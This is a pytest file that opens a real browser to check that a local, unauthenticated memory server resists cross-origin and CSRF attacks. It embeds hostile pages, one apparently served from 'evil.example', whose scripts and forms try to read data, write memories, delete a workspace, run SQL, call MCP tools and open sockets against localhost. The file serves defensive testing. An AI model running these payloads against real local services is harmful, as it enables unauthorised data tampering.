"""Web pages in a real browser against a server without tokens, and the server's own page of documentation."""

from __future__ import annotations

import http.server
import json
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, unquote

import httpx
import pytest
from browser import close_page, open_page, read_page
from running_server import eventually

from rmem import Brain

NAVIGATION = """<!doctype html><title>A page without fetch</title>
<form id="urlencoded" method="post" target="one" action="MEMORIES"><input name="text" value="urlencoded"></form>
<form id="multipart" method="post" enctype="multipart/form-data" target="two" action="MEMORIES">
<input name="text" value="multipart"></form>
<form id="plain" method="post" enctype="text/plain" target="three" action="REDIRECT">
<input name='{"text": "redirected", "metadata": {"x": "' value='"}}'></form>
<iframe name="one"></iframe><iframe name="two"></iframe><iframe name="three"></iframe>
<iframe id="me" src="SERVER/me"></iframe><iframe id="ui" src="SERVER/ui/"></iframe>
<iframe sandbox="allow-scripts" srcdoc='<script>
  for (const mode of ["cors", "no-cors"])
    fetch("MEMORIES", {method: "POST", mode, body: JSON.stringify({text: "of no origin"})}).catch(() => 0);
</script>'></iframe>
<script>
const seen = {}, frames = {};
const load = (kind, address) => new Promise(done => {
  const part = document.createElement(kind);
  part.onload = () => done("loaded"); part.onerror = () => done("blocked");
  part[kind === "link" ? "href" : "src"] = address;
  if (kind === "link") part.rel = "stylesheet";
  document.body.append(part);
});
(async () => {
  for (const kind of ["img", "script", "link", "video"])
    seen[kind] = await Promise.race([load(kind, "SERVER/workspaces/default/memories?x=" + kind),
      new Promise(done => setTimeout(() => done("blocked"), 1500))]);
  seen.redirect = await fetch("REDIRECT", {method: "POST", body: JSON.stringify({text: "by a redirect"})})
    .then(answer => answer.text()).catch(() => "blocked");
  const other = window.open("SERVER/me", "other");
  for (const form of document.forms) form.submit();
  await new Promise(done => setTimeout(done, 1500));
  for (const id of ["me", "ui"])
    try { frames[id] = document.getElementById(id).contentDocument.body.innerText; } catch { frames[id] = "blocked"; }
  try { seen.window = other.document.body.innerText; } catch { seen.window = "blocked"; }
  for (const id in frames) seen["frame " + id] = frames[id] || "blocked";
  fetch("/seen", {method: "POST", body: JSON.stringify(seen)});
})();
</script>
"""
ATTACK = """<!doctype html><title>A page from elsewhere</title>
<iframe name="hidden"></iframe>
<form id="form" method="post" enctype="text/plain" target="hidden" action="SERVER/workspaces/default/memories">
<input name='{"text": "by a form", "metadata": {"x": "' value='"}}'></form>
<script>
const server = "SERVER", memories = server + "/workspaces/default/memories";
const seen = {};
async function attempt(name, act) {
  try { seen[name] = String(await act()).slice(0, 200); } catch (error) { seen[name] = "blocked"; }
}
const text = (address, options) => fetch(address, options).then(answer => answer.text());
const write = (name, options) => text(memories, {method: "POST", body: JSON.stringify({text: name}), ...options});
const rpc = JSON.stringify({jsonrpc: "2.0", id: 1, method: "tools/call",
  params: {name: "remember", arguments: {text: "by MCP"}}});
const opened = link => new Promise((done, failed) => { link.onopen = () => done("open"); link.onerror = failed; });
(async () => {
  await attempt("read", () => text(server + "/me"));
  await attempt("read without CORS", () => text(server + "/me", {mode: "no-cors"}));
  await attempt("write plain text", () => write("plain", {headers: {"Content-Type": "text/plain"}}));
  await attempt("write without CORS", () => write("no-cors", {mode: "no-cors"}));
  await attempt("write JSON", () => write("JSON", {headers: {"Content-Type": "application/json"}}));
  await attempt("write with keepalive", () => write("keepalive", {mode: "no-cors", keepalive: true}));
  await attempt("send a beacon", () => navigator.sendBeacon(memories, JSON.stringify({text: "beacon"})));
  await attempt("delete", () => text(server + "/workspaces/default", {method: "DELETE"}));
  await attempt("sql", () => text(server + "/workspaces/default/tables/query",
    {method: "POST", mode: "no-cors", body: JSON.stringify({query: "CREATE TABLE owned (x TEXT)"})}));
  await attempt("mcp", () => text(server + "/workspaces/default/mcp", {method: "POST", mode: "no-cors", body: rpc}));
  await attempt("websocket", () => opened(new WebSocket(server.replace("http", "ws") + "/workspaces/default/mcp")));
  await attempt("event source", () => opened(new EventSource(server + "/workspaces/default/mcp")));
  document.getElementById("form").submit();
  setTimeout(() => fetch("/seen", {method: "POST", body: JSON.stringify(seen)}), 1000);
})();
</script>
"""


class Page:
    """A site of its own, on a port of its own, that serves one page and is told what the page has seen."""

    def __init__(self, text: str) -> None:
        page, told = text.encode(), []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page)

            def do_POST(self) -> None:
                if self.path.startswith("/to/"):
                    self.send_response(307)
                    self.send_header("Location", unquote(self.path.removeprefix("/to/")))
                    self.end_headers()
                    return
                told.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self.told: list[dict[str, str]] = told
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def page_of() -> Iterator:
    pages: list[Page] = []

    def make(text: str) -> Page:
        pages.append(Page(text))
        return pages[-1]

    yield make
    for page in pages:
        page.close()


@pytest.mark.parametrize("site", ["127.0.0.1", "localhost", "evil.example"])
def test_a_page_from_elsewhere_reads_and_writes_nothing(server_with, page_of, tmp_path: Path, site: str):
    server = server_with(auth=False)
    page = page_of(ATTACK.replace("SERVER", server.url))
    resolve = "--host-resolver-rules=MAP evil.example 127.0.0.1"
    browser = open_page(f"http://{site}:{page.port}/", tmp_path / "profile", resolve)
    try:
        (seen,) = eventually(lambda: page.told, seconds=60)
    finally:
        close_page(browser)
    own = server.client()
    assert own.get("/workspaces/default/memories").json()["memories"] == []
    assert own.get("/workspaces/default/tables").json()["tables"] == []
    assert seen["read"] == "blocked"
    assert {name for name, text in seen.items() if text not in ("blocked", "", "true")} == set()


@pytest.mark.parametrize("site", ["127.0.0.1", "evil.example"])
@pytest.mark.parametrize("command", [("serve", "--no-auth", "--data"), ("ui", "--no-browser", "--store")], ids=str)
def test_images_frames_forms_and_redirects_of_a_page_reach_neither_command(
    command: tuple[str, ...], page_of, tmp_path: Path, site: str
):
    with Brain(tmp_path / "team.db") as brain:
        brain.remember("where the anchor lies")
    place = tmp_path / ("team.db" if command[0] == "ui" else "data")
    with socket.create_server(("127.0.0.1", 0)) as probe:
        port = probe.getsockname()[1]
    url = f"http://127.0.0.1:{port}"
    arguments = [sys.executable, "-m", "rmem", *command, str(place), "--port", str(port)]
    with (tmp_path / "log").open("wb") as log, subprocess.Popen(arguments, stdout=log, stderr=log) as process:
        try:
            eventually(lambda: answers(url), seconds=60)
            memories = f"{url}/workspaces/default/memories"
            text = NAVIGATION.replace("MEMORIES", memories).replace("REDIRECT", "/to/" + quote(memories, safe=""))
            page = page_of(text.replace("SERVER", url))
            resolve = "--host-resolver-rules=MAP evil.example 127.0.0.1"
            browser = open_page(f"http://{site}:{page.port}/", tmp_path / "profile", resolve)
            try:
                (seen,) = eventually(lambda: page.told, seconds=60)
            finally:
                close_page(browser)
            if command[0] == "serve":
                assert httpx.get(memories).json()["memories"] == []
        finally:
            process.terminate()
    assert set(seen.values()) == {"blocked"}, seen
    with Brain(tmp_path / "team.db") as brain:
        assert [memory.text for memory in brain.memories()] == ["where the anchor lies"]


def answers(url: str) -> bool:
    try:
        return httpx.get(f"{url}/health").status_code == 200
    except httpx.TransportError:
        return False


def test_a_name_that_was_rebound_to_this_machine_shows_nothing(server_with, tmp_path: Path):
    server = server_with(auth=False)
    port = server.url.rsplit(":", 1)[1]
    resolve = "--host-resolver-rules=MAP evil.example 127.0.0.1"
    shown = read_page(f"http://evil.example:{port}/me", tmp_path / "profile", resolve)
    assert "this machine only" in shown
    assert "admin" in read_page(f"{server.url}/me", tmp_path / "profile")  # typed by its user


def test_the_documentation_renders_without_the_outside(server, tmp_path: Path):
    nothing_else = "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
    shown = read_page(f"{server.url}/docs", tmp_path / "profile", nothing_else)
    assert "/workspaces/{workspace}/tables/query" in shown
    assert "One SQL statement" in shown
    assert "ingest" in shown


def test_the_documentation_names_no_other_host(server):
    page = httpx.get(f"{server.url}/docs")
    assert "http://" not in page.text
    assert "https://" not in page.text
    assert "<script" not in page.text
    assert page.headers["content-security-policy"].startswith("default-src 'none'")
